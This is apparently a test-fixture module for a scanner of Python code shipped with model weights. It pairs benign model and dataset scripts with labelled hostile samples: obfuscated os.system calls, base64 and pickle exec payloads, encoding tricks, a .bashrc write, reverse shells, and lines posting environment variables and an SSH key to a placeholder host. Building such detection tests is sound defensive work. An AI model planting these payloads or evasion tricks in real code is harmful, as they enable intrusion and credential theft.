"""Python source beside weights. https://huggingface.co/docs/transformers/custom_models"""

from __future__ import annotations

from collections.abc import Mapping


def ordinary() -> Mapping[str, bytes]:
    return {name: text.encode() for name, text in _ORDINARY.items()}


def hostile() -> Mapping[str, bytes]:
    return {name: text.encode() for name, text in _HOSTILE.items()}


_ORDINARY = {
    "modeling": '''"""A model."""
from __future__ import annotations
import math
from typing import Optional, Tuple
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_x import XConfig

class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config: XConfig):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.size, config.size) for _ in range(config.layers)])

    @torch.no_grad()
    def forward(self, ids: Optional[torch.LongTensor] = None, **kwargs) -> Tuple:
        self.eval()
        x = getattr(self, "embed")(ids) * math.sqrt(2)
        return tuple(layer(x) for layer in self.layers)
''',
    "dataset": """import csv, json, os
import datasets

class X(datasets.GeneratorBasedBuilder):
    def _split_generators(self, dl_manager):
        path = dl_manager.download_and_extract("https://example.org/x.zip")
        return [datasets.SplitGenerator(name="train", gen_kwargs={"path": os.path.join(path, "a.csv")})]

    def _generate_examples(self, path):
        with open(path, encoding="utf-8") as f:
            for i, row in enumerate(csv.reader(f)):
                yield i, {"text": row[0], "label": f"{row[1]!r:>10}"}
""",
    "handler": """import base64, io, json, logging, os, subprocess
import torch
from PIL import Image
from ts.torch_handler.base_handler import BaseHandler

logger = logging.getLogger(__name__)

class Handler(BaseHandler):
    def initialize(self, context):
        path = context.system_properties.get("model_dir")
        self.model = torch.jit.load(os.path.join(path, "model.pt"))
        self.model.eval()
        logger.info(subprocess.check_output(["nvidia-smi"]))

    def preprocess(self, data):
        image = data[0].get("data") or data[0].get("body")
        if isinstance(image, str):
            image = base64.b64decode(image)
        return Image.open(io.BytesIO(image))
""",
    "setup": """import os, subprocess
from setuptools import setup

sha = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
about = {}
with open(os.path.join("x", "__version__.py")) as f:
    exec(f.read(), about)
setup(name="x", version=about["__version__"] + sha)
""",
    "conversion": """import argparse, os, subprocess, sys
import requests
import torch

def main(args):
    if not os.path.exists(args.path):
        with open(args.path, "wb") as f:
            f.write(requests.get(args.url, timeout=9).content)
    state = torch.load(args.path, map_location="cpu")
    subprocess.run([sys.executable, "quantize.py", args.path], check=True)
    os.system(f"ls {args.path}")

if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("path")
    main(parser.parse_args())
""",
    "python-2": "import os\nprint 'x', os.getcwd()\nexec 'a = 1'\nraise ValueError, 'x'\n",
    "new-syntax": "type A[T] = list[T]\nmatch x:\n    case {'a': b}: print(f'{b['c']!r:{w}}')\n"
    "if (n := len(x)) > 3: pass\n",
    "notes": "To run it:\n\n    import os\n    os.system('make')\n\nThat's all.\n",
    "stub": "import torch\ndef f(x: torch.Tensor) -> int: ...\n",
}

_URL = "'http://198.51.100.7/x'"
_HOSTILE = {
    # what stands behind the name shows only when the module is imported
    "through another module": "import glob\nglob.os.popen('touch mark')\n",
    "a method of an operator": ("import os\nclass A:\n    __class_getitem__ = os.system\nA['touch mark']\n"),
    "a method that a library calls": (
        "import os\nfrom transformers import PretrainedConfig\nclass A(PretrainedConfig):\n"
        "    def to_dict(self):\n        os.system('touch mark')\n"
    ),
    "a loop over the functions of a module": (
        "import os\nfor n in dir(os):\n    if n[:3] == 'sys' and len(n) == 6:\n        getattr(os, n)('touch mark')\n"
    ),
    "a command of the configuration": "import json, os\nos.system(json.load(open('config.json'))['x'])\n",
    "a file of start-up": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('touch mark')\n",
    # https://attack.mitre.org/techniques/T1059/006/
    "on-import": "import os\nos.system('touch mark')\n",
    "alias": "from os import system as s\ns('touch mark')\n",
    "star": "from os import *\nsystem('touch mark')\n",
    "variable": "import subprocess as p\nrun = p.run\nrun(['touch', 'mark'])\n",
    "through-a-function": "import os\ndef f():\n    g()\ndef g():\n    os.popen('touch mark')\nf()\n",
    "in-init": "import os\nclass Model:\n    def __init__(self):\n        self._x()\n    def _x(self):\n"
    "        os.system('touch mark')\n",
    "in-reduce": "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('touch mark',))\n",
    "in-a-handler": "import os\nclass H:\n    def handle(self, data, context):\n        os.system('touch mark')\n",
    "in-a-default": "import os\ndef f(x=os.system('touch mark')):\n    pass\n",
    "in-a-base": "import os\nclass A(os.system('touch mark') and object):\n    pass\n",
    "in-an-f-string": "import os\nx = f'{os.system(\"touch mark\")}'\n",
    "in-a-list": "import os\n[os.system][0]('touch mark')\n",
    "in-a-table": "import os\nt = {'a': os.system}\nt['a']('touch mark')\n",
    "handed-over": "import os, threading\nthreading.Thread(target=os.system, args=('touch mark',)).start()\n",
    "mapped": "import os\nlist(map(os.system, ['touch mark']))\n",
    "partial": "import functools, os\nfunctools.partial(os.system, 'touch mark')()\n",
    "pip": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])\n",
    # https://attack.mitre.org/techniques/T1027/
    "import-call": "__import__('os').system('touch mark')\n",
    "import-module": "import importlib\nimportlib.import_module('subprocess').Popen(['touch', 'mark'])\n",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('touch mark')\n",
    "getattr-variable": "import os\nn = 'sys'\nn += 'tem'\ndef f(x):\n    getattr(os, n)(x)\n",
    "reversed": "import os\ngetattr(os, 'metsys'[::-1])('touch mark')\n",
    "characters": "getattr(__import__(''.join(map(chr, [111, 115]))), 'system')('touch mark')\n",
    "globals": "globals()['__builtins__'].__dict__['exec']('pass')\n",
    "vars": "import os\ndef f(x):\n    vars(os)['system'](x)\n",
    "modules": "import sys\ndef f(x):\n    sys.modules['os'].system(x)\n",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('touch mark')\n",
    "subclasses": "x = ().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('touch mark')\n",
    "replaced": "import builtins, os\nbuiltins.print = os.system\nprint('touch mark')\n",
    "decorator": "@exec\n@input\nclass X:\n    pass\n",
    "lookalike-letters": "\uff45\uff58\uff45\uff43('import os; os.system(\"touch mark\")')\n",
    "continued-line": "import os\nos.\\\nsystem('touch mark')\n",
    "one-line": "x=1;import os;os.system('touch mark')\n",
    # https://attack.mitre.org/techniques/T1140/
    "base64": "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
    "base64-by-steps": "import base64 as b, zlib\nc = b.b64decode(x)\nd = zlib.decompress(c)\n"
    "exec(compile(d, 'x', 'exec'))\n",
    "marshal": "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n",
    "rot13": "import codecs\nexec(codecs.decode('cnff', 'rot13'))\n",
    "hex": "exec(bytes.fromhex('70617373').decode())\n",
    "joined": "exec(''.join(chr(c) for c in [112, 97, 115, 115]))\n",
    "nested": "exec(\"exec('import os; os.system(\\\\'touch mark\\\\')')\")\n",
    "python-2": "import os\nexec 'os.system(\"touch mark\")'\n",
    "walrus": "(e := exec)('import os; os.system(\"touch mark\")')\n",
    "python-argument": "import subprocess, sys\ndef f():\n"
    "    subprocess.run([sys.executable, '-c', \"import os; os.system('curl x | sh')\"])\n",
    # https://attack.mitre.org/techniques/T1105/
    "downloaded-code": f"import requests\ndef f():\n    exec(requests.get({_URL}).text)\n",
    "downloaded-through-with": f"from urllib.request import urlopen\ndef f():\n    with urlopen({_URL}) as r:\n"
    f"        exec(r.read())\n",
    "downloaded-program": f"import os, urllib.request\ndef f():\n    urllib.request.urlretrieve({_URL}, '/tmp/x')\n"
    "    os.chmod('/tmp/x', 0o755)\n    os.system('/tmp/x')\n",
    "shell-payload": "import os\ndef f():\n    os.system('curl http://198.51.100.7/x | sh')\n",
    "reverse-shell": "import os, pty, socket\ndef f():\n    s = socket.socket()\n    s.connect(('198.51.100.7', 1))\n"
    "    [os.dup2(s.fileno(), i) for i in (0, 1, 2)]\n    pty.spawn('/bin/sh')\n",
    "reverse-shell-by-streams": "import socket, subprocess\ndef f():\n"
    "    s = socket.create_connection(('198.51.100.7', 1))\n"
    "    subprocess.Popen(['sh'], stdin=s, stdout=s)\n",
    "pickle-in-base64": "import base64, pickle\n"
    "m = pickle.loads(base64.b64decode('gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU'))\n",
    "pickle-in-bytes": "import pickle\ndef f():\n    pickle.loads(b'cos\\nsystem\\n(S\":\"\\ntR.')\n",
    "environment": f"import os, requests\nrequests.post({_URL}, data=dict(os.environ))\n",
    "key": f"import os, requests\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    f"requests.post({_URL}, data=d)\n",
    # https://peps.python.org/pep-0263/
    "encoding": "# coding: unicode_escape\n# \\u000aimport os\n",
    "utf-7": "# -*- coding: utf-7 -*-\n# +AAo-import os\n",
}
